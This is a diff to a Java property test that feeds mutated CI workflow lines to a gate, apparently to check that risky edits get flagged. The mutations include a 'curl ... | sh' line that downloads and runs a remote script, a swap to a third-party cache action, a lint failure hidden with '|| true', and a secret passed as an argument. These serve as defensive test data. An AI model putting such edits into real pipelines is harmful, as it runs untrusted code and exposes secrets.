@@ -40,12 +40,11 @@ class GatePropertyTest {
       new String[] {"node-version: 16", "node-version: 20"},
       new String[] {"actions/cache@v4", "someone/cache@v4"},
       new String[] {"deps-v1", "deps-v2"},
-      new String[] {"./scripts/fixtures.sh", "curl -s https://example.org/x | sh"},
+      new String[] {"npm run build", "curl -s https://example.org/x | sh"},
       new String[] {"run: npm ci", "run: npm install"},
       new String[] {"npm run lint", "npm run lint || true"},
       new String[] {"run: npm test", "run: npm test -- --verbose"},
-      new String[] {"./scripts/coverage-upload.sh", "./scripts/coverage-upload.sh ${{ secrets.T }}"
-      });
+      new String[] {"npm run report", "npm run report ${{ secrets.T }}"});
 
   private static final List<FileChange> OTHER_FILES = List.of(
       change("README.md", "a\n", "b\n"),
